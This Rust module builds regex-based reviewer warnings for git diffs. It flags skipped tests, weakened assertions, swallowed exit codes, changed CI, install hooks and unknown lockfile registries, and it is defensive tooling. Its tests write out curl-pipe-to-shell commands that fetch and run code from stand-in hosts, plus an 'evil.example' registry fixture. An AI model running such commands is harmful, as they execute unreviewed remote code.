//! What a reviewer should know of a difference that its author may not say: fewer tests, tests that
//! are skipped, assertions that got weaker, exit codes that are swallowed, changed automation. Plain
//! rules over lines, so that they are quick to read and may be wrong: remarks, not a verdict.
//! Never believes a summary.

use std::sync::LazyLock;

use regex::Regex;

use crate::phrase::{Language, risk as words};
use crate::text;

/// Most remarks; a reviewer reads a list, not a log.
const MAX_RISKS: usize = 20;

/// Most characters of a line or a path that is quoted.
const MAX_QUOTED_CHARS: usize = 120;

/// How a difference ends that was cut.
const CUT: &str = "[… the diff is longer]";

static TEST: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(concat!(
        r"^\s*(?:#\[(?:\w+::)*test\b|def test_|async def test_|func Test\w|func Benchmark\w|@Test\b|@ParameterizedTest\b|",
        r"\[(?:Fact|Theory|Test|TestMethod)\b|(?:public )?function test\w|TEST(?:_[FP])?\(|test_that\()|",
        r#"^\s*(?:it|test|specify|scenario)\s*\(?\s*["'`]|^\s*test "#,
        r#"["']"#
    ))
    .expect("the pattern is valid")
});

static SKIP: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(concat!(
        r"#\[ignore\b|#\[cfg\(any\(\)\)\]|pytest\.(?:mark\.)?(?:skip|xfail|skipif)\b|unittest\.(?:skip|expectedFailure)|",
        r"\bskipTest\(|\b(?:it|test|describe|context|suite)\.(?:skip|todo|fixme|only|failing)\b|\bx(?:it|describe|test|context)\s*\(|",
        r"\bt\.Skip(?:Now|f)?\(|@(?:Disabled|Ignore)\b|\[Ignore\b|\bSkip\s*=\s*.|markTest(?:Skipped|Incomplete)|XCTSkip|GTEST_SKIP|",
        r"\bDISABLED_\w|\bpending\b\s*(?:$|[(\x22'])|^\s*skip\b\s*(?:$|[(\x22'])"
    ))
    .expect("the pattern is valid")
});

static SWALLOWED: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(r"(?:^|[;&|\s])exit 0\b|\|\|\s*(?:true|:)(?:\s|$)|^\s*set \+e\b|continue-on-error:\s*true|allow_failure:\s*true|--no-verify\b|\bsys\.exit\(0\)|process\.exit\(0\)|os\._exit\(0\)")
        .expect("the pattern is valid")
});

static ASSERTION: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(r"\b(?:debug_)?assert\w*!?\s*[\s(!]|\bexpect\s*\(|\.should\b|\brequire\.\w+\(|\bt\.(?:Error|Fatal)f?\(|\bensure!\(|\bEXPECT_\w+\(")
        .expect("the pattern is valid")
});

static EXACT: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(r"assert_eq!|assert_ne!|assert(?:Equals?|Equal|Same|DeepEqual|_equal)\b|\.to(?:Be|Equal|StrictEqual|Match\w*)\(|assert .*==|\.eq\(|EXPECT_EQ|ASSERT_EQ|require\.Equal|assert\.Equal")
        .expect("the pattern is valid")
});

static ALWAYS_TRUE: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(r"assert!\(\s*true\b|assert\s*\(?\s*True\b|assertTrue\(\s*[Tt]rue\b|expect\(\s*true\s*\)|assert_eq!\(\s*(?:1, 1|true, true)\s*\)|assert\.True\(t, true")
        .expect("the pattern is valid")
});

static INSTALL: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(r#"^\s*"(?:(?:pre|post)?install|prepare|prepublish)"\s*:|\bcmdclass\s*=|^\s*(?:post|pre)_install\b"#)
        .expect("the pattern is valid")
});

static FETCHED: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(r"\b(?:curl|wget)\b[^|;&]*\|\s*(?:sudo\s+)?(?:\S*/)?(?:ba|z|da|k)?sh\b|\b(?:ba|z|da)?sh\s+(?:-c\s+)?[\x22']?(?:<\(|\$\()\s*(?:curl|wget)\b|\biex\b.*\b(?:iwr|irm|Invoke-WebRequest)\b|\b(?:iwr|irm)\b.*\|\s*iex\b")
        .expect("the pattern is valid")
});

static HOST: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(r"(?i)\b(?:https?|git|ssh)(?:\+\w+)?://(?:[^/\s@\x22']*@)?([a-z0-9.-]+)").expect("the pattern is valid")
});

/// Where packages come from by default.
const REGISTRIES: [&str; 12] = [
    "registry.npmjs.org",
    "registry.yarnpkg.com",
    "npm.pkg.github.com",
    "github.com",
    "codeload.github.com",
    "static.crates.io",
    "index.crates.io",
    "crates.io",
    "pypi.org",
    "files.pythonhosted.org",
    "rubygems.org",
    "repo.packagist.org",
];

/// A line of more bytes than this is read by nobody.
const LONGEST_READ_LINE: usize = 5_000;

/// One file of a difference.
#[derive(Debug, Default)]
struct File<'a> {
    path: &'a str,
    is_new: bool,
    is_deleted: bool,
    added: Vec<&'a str>,
    removed: Vec<&'a str>,
    kept: Vec<&'a str>,
}

/// What a reviewer should know of a difference in git's format. Lines and paths are shown as code.
pub fn risks_of(language: Language, diff: &str) -> Vec<String> {
    let mut risks: Vec<String> = files(diff)
        .iter()
        .flat_map(|file| risks_of_file(language, file))
        .collect();
    if risks.len() > MAX_RISKS {
        let more = risks.len() - MAX_RISKS;
        risks.truncate(MAX_RISKS);
        risks.push(crate::phrase::pull::more_remarks(language, more));
    }
    if diff.trim_end().ends_with(CUT) {
        risks.push(words::too_long(language).to_owned());
    }
    risks
}

fn files(diff: &str) -> Vec<File<'_>> {
    let mut files: Vec<File<'_>> = Vec::new();
    let mut is_head = true;
    for line in diff.lines() {
        if let Some(names) = line.strip_prefix("diff --git ") {
            let path = names.rsplit_once(" b/").map_or(names, |(_, path)| path);
            files.push(File {
                path: path.trim_end_matches('"'),
                ..File::default()
            });
            is_head = true;
            continue;
        }
        let Some(file) = files.last_mut() else { continue };
        if line.starts_with("@@") {
            is_head = false;
        } else if is_head {
            file.is_deleted |= line.starts_with("deleted file mode");
            file.is_new |= line.starts_with("new file mode");
        } else if let Some(added) = line.strip_prefix('+') {
            file.added.push(added);
        } else if let Some(removed) = line.strip_prefix('-') {
            file.removed.push(removed);
        } else if let Some(kept) = line.strip_prefix(' ') {
            file.kept.push(kept);
        }
    }
    files
}

fn risks_of_file(language: Language, file: &File<'_>) -> Vec<String> {
    let path = code(file.path);
    let mut risks = Vec::new();
    let is_test = is_test(file.path);
    let count = |lines: &[&str], pattern: &Regex| lines.iter().filter(|line| pattern.is_match(line)).count();
    let fewer = |pattern: &Regex| {
        let (before, after) = (count(&file.removed, pattern), count(&file.added, pattern));
        before.saturating_sub(after)
    };
    if is_automation(file.path) {
        risks.push(words::automation(language, &path));
    }
    if file.is_deleted {
        return risks; // that a test was deleted is said of the list of files
    }
    risks.extend(from_elsewhere(language, file));
    let skipped = file.added.iter().find(|line| SKIP.is_match(line) && !is_remark(line));
    let may_hold_tests = is_test || !is_prose(file.path);
    if let Some(line) = skipped.filter(|_| may_hold_tests) {
        risks.push(words::skipped(language, &path, &code(line.trim())));
    }
    if let Some(line) = file.added.iter().find(|line| SWALLOWED.is_match(line))
        && (is_test || is_script(file.path))
    {
        risks.push(words::swallowed(language, &path, &code(line.trim())));
    }
    let tests = fewer(&TEST);
    if tests > 0 {
        risks.push(words::fewer_tests(language, &path, tests));
    }
    if is_test || count(&file.removed, &TEST) > 0 {
        let assertions = fewer(&ASSERTION);
        if assertions > 0 && tests == 0 {
            risks.push(words::fewer_assertions(language, &path, assertions));
        } else if tests == 0 && fewer(&EXACT) > 0 {
            risks.push(words::looser(language, &path));
        }
        if let Some(line) = file.added.iter().find(|line| ALWAYS_TRUE.is_match(line)) {
            risks.push(words::always_true(language, &path, &code(line.trim())));
        }
    }
    risks
}

/// What comes from the network or runs by itself, and what cannot be read.
fn from_elsewhere(language: Language, file: &File<'_>) -> Vec<String> {
    let path = code(file.path);
    let mut risks = Vec::new();
    if let Some(line) = file.added.iter().find(|line| INSTALL.is_match(line))
        && is_manifest(file.path)
    {
        risks.push(words::install_script(language, &path, &code(line.trim())));
    }
    let fetched = file.added.iter().find(|line| FETCHED.is_match(line));
    if let Some(line) = fetched.filter(|_| !is_prose(file.path)) {
        risks.push(words::fetched_and_run(language, &path, &code(line.trim())));
    }
    if is_lockfile(file.path) {
        let hosts = |lines: &[&str]| -> Vec<String> {
            let found = lines.iter().flat_map(|line| HOST.captures_iter(line));
            found.map(|found| found[1].to_lowercase()).collect()
        };
        let before: Vec<String> = [hosts(&file.removed), hosts(&file.kept)].concat();
        let is_new = |host: &String| !before.contains(host) && !REGISTRIES.contains(&host.as_str());
        if let Some(host) = hosts(&file.added).into_iter().find(is_new) {
            risks.push(words::other_registry(language, &path, &code(&host)));
        }
    }
    // Of a new file its size tells, which the difference may not show whole.
    let longest = file.added.iter().map(|line| line.len()).max().unwrap_or_default();
    if longest > LONGEST_READ_LINE && !file.is_new {
        risks.push(words::minified(language, &path, &text::bytes_in_words(longest as u64)));
    }
    risks
}

/// A file that package managers read.
fn is_manifest(path: &str) -> bool {
    let name = path.rsplit('/').next().unwrap_or_default();
    matches!(name, "package.json" | "composer.json" | "setup.py" | "PKGBUILD") || name.ends_with(".install")
}

/// A file that pins the versions of dependencies.
pub(super) fn is_lockfile(path: &str) -> bool {
    let lower = path.to_lowercase();
    let name = lower.rsplit('/').next().unwrap_or_default();
    name.ends_with(".lock")
        || name.ends_with(".lockb")
        || matches!(
            name,
            "package-lock.json" | "npm-shrinkwrap.json" | "pnpm-lock.yaml" | "go.sum" | "packages.lock.json"
        )
}

/// Whether a path is a test's.
pub(super) fn is_test(path: &str) -> bool {
    let lower = path.to_lowercase();
    let name = lower.rsplit('/').next().unwrap_or_default();
    lower
        .split('/')
        .any(|part| matches!(part, "test" | "tests" | "spec" | "specs" | "__tests__" | "testing"))
        || name.contains("test")
        || name.contains("spec.")
        || name.contains("_spec")
}

fn is_automation(path: &str) -> bool {
    let name = path.rsplit('/').next().unwrap_or_default();
    path.starts_with(".github/workflows/")
        || path.starts_with(".github/actions/")
        || path.starts_with(".circleci/")
        || path.starts_with(".buildkite/")
        || path.starts_with(".husky/")
        || matches!(
            name,
            ".gitlab-ci.yml" | "Jenkinsfile" | "azure-pipelines.yml" | ".travis.yml" | ".pre-commit-config.yaml"
        )
}

fn is_script(path: &str) -> bool {
    let name = path.rsplit('/').next().unwrap_or_default();
    let ending = name.rsplit_once('.').map_or("", |(_, ending)| ending);
    matches!(ending, "sh" | "bash" | "yml" | "yaml" | "mk" | "toml" | "json")
        || matches!(
            name,
            "Makefile" | "makefile" | "justfile" | "Dockerfile" | "tox.ini" | "noxfile.py"
        )
        || !name.contains('.')
}

fn is_prose(path: &str) -> bool {
    let ending = path.rsplit_once('.').map_or("", |(_, ending)| ending);
    matches!(ending, "md" | "rst" | "txt" | "adoc")
}

/// A comment that speaks of skipping skips nothing.
fn is_remark(line: &str) -> bool {
    let line = line.trim_start();
    line.starts_with("//") || (line.starts_with('#') && !line.starts_with("#[")) || line.starts_with('*')
}

fn code(text: &str) -> String {
    text::code_span(&text::cap_chars(text, MAX_QUOTED_CHARS))
}

#[cfg(test)]
mod tests {
    use super::*;

    /// A difference of one file with these lines.
    fn diff(path: &str, lines: &str) -> String {
        format!(
            "diff --git a/{path} b/{path}\nindex 1..2 100644\n--- a/{path}\n+++ b/{path}\n@@ -1,3 +1,3 @@\n{lines}\n"
        )
    }

    #[track_caller]
    fn check(path: &str, lines: &str, expected: &[&str]) {
        let risks = risks_of(Language::English, &diff(path, lines));
        assert_eq!(risks.len(), expected.len(), "{lines}: {risks:#?}");
        for (risk, words) in risks.iter().zip(expected) {
            assert!(risk.contains(words), "{lines}: {risk}");
        }
    }

    #[test]
    fn m07_skipped_tests_are_named() {
        let skipped = ["is skipped"];
        check("src/a.rs", "+    #[ignore = \"slow\"]", &skipped);
        check("tests/test_a.py", "+@pytest.mark.xfail(reason='x')", &skipped);
        check("tests/test_a.py", "+    self.skipTest('x')", &skipped);
        check("a.test.ts", "+it.skip('counts', () => {", &skipped);
        check("a.test.ts", "+  it.only('counts', () => {", &skipped);
        check("a.spec.js", "+xdescribe('a', () => {", &skipped);
        check("a_test.go", "+\tt.Skip(\"flaky\")", &skipped);
        check("ATest.java", "+    @Disabled", &skipped);
        check("ATests.cs", "+    [Fact(Skip = \"x\")]", &skipped);
        check("spec/a_spec.rb", "+    skip 'later'", &skipped);
        check("src/a.rs", "+// #[ignore] is not used here", &[]);
        check("src/a.rs", "+let n = items.iter().skip(1);", &[]);
        check("docs/a.md", "+Use `it.skip(` for that.", &[]);
        check("src/a.rs", " #[ignore]", &[]);
    }

    #[test]
    fn m07_swallowed_failures_are_named() {
        check("test.sh", "+exit 0", &["swallowed"]);
        check("Makefile", "+\tcargo test || true", &["swallowed"]);
        check("ci/run", "+set +e", &["swallowed"]);
        check("tests/run.py", "+sys.exit(0)", &["swallowed"]);
        check("src/a.py", "+    sys.exit(0)", &[]);
        check("test.sh", "-exit 0", &[]);
    }

    #[test]
    fn m07_fewer_and_weaker_assertions_are_named() {
        check(
            "src/a.rs",
            "-#[test]\n-fn a() {\n-    assert!(b());\n-}",
            &["1 test fewer"],
        );
        check(
            "test_a.py",
            "-def test_a():\n-def test_b():\n+def test_c():",
            &["1 test fewer"],
        );
        check(
            "a.test.js",
            "-  it('counts', () => {\n+  it('counts words', () => {",
            &[],
        );
        check(
            "tests/a.rs",
            "-    assert_eq!(a(), 2);\n-    assert_eq!(b(), 2);\n+    assert_eq!(a(), 2);",
            &["1 assertion fewer"],
        );
        check(
            "tests/a.rs",
            "-    assert_eq!(a(), Ok(2));\n+    assert!(a().is_ok());",
            &["a looser one"],
        );
        check(
            "a.test.ts",
            "-  expect(a()).toEqual(2);\n+  expect(a()).toBeDefined();",
            &["a looser one"],
        );
        check("tests/a.rs", "+    assert!(true);", &["always true"]);
        check("tests/a.rs", "-    assert_eq!(a(), 2);\n+    assert_eq!(a(), 3);", &[]);
        check("src/a.rs", "-    assert!(x);", &[]);
    }

    #[test]
    fn changed_automation_is_named() {
        check(".github/workflows/ci.yml", "+  - run: make", &["Automation"]);
        check(".gitlab-ci.yml", "+allow_failure: true", &["Automation", "swallowed"]);
    }

    #[test]
    fn what_runs_by_itself_is_named() {
        check(
            "package.json",
            "+    \"postinstall\": \"node x.js\",",
            &["at installation"],
        );
        check("package.json", "-    \"postinstall\": \"node x.js\",", &[]);
        check("package.json", "+    \"test\": \"node x.js\",", &[]);
        check("setup.py", "+    cmdclass={'install': X},", &["at installation"]);
        let unseen = ["run unseen"];
        check("get.sh", "+curl -fsSL https://x.example/i.sh | sudo bash", &unseen);
        check("Dockerfile", "+RUN wget -qO- https://x.example | sh", &unseen);
        check("get.sh", "+bash <(curl -s https://x.example)", &unseen);
        check("get.sh", "+sh -c \"$(curl -fsSL https://x.example)\"", &unseen);
        check("get.sh", "+curl -o a.tgz https://x.example/a.tgz", &[]);
        check("README.md", "+    curl https://x.example | sh", &[]);
    }

    #[test]
    fn another_registry_is_named() {
        let from = |host: &str| format!("+      \"resolved\": \"https://{host}/a/-/a-1.tgz\",");
        check("package-lock.json", &from("registry.npmjs.org"), &[]);
        check("package-lock.json", &from("evil.example"), &["`evil.example`"]);
        check(
            "yarn.lock",
            &format!(" x \"https://npm.corp.example/b\"\n{}", from("npm.corp.example")),
            &[],
        );
        check("src/a.rs", &from("evil.example"), &[]);
    }

    #[test]
    fn o06_lines_that_nobody_reads_are_named() {
        check("a.js", &format!("+{}", "x".repeat(6_000)), &["too long to be reviewed"]);
        check("a.js", &format!("+{}", "x".repeat(900)), &[]);
    }

    #[test]
    fn hostile_and_long_differences_are_bounded() {
        let wide = format!("+#[ignore] {}`|\n", "x".repeat(10_000));
        let many: String = (0..50).map(|at| diff(&format!("tests/{at}.rs"), &wide)).collect();
        let risks = risks_of(Language::English, &format!("{many}\n{CUT}"));
        assert_eq!(risks.len(), MAX_RISKS + 2);
        assert!(risks.iter().all(|risk| risk.chars().count() < 1_000), "{risks:#?}");
        assert_eq!(risks_of(Language::English, ""), Vec::<String>::new());
        assert_eq!(
            risks_of(Language::English, "+#[ignore]\n@@\ndiff --git"),
            Vec::<String>::new()
        );
    }
}
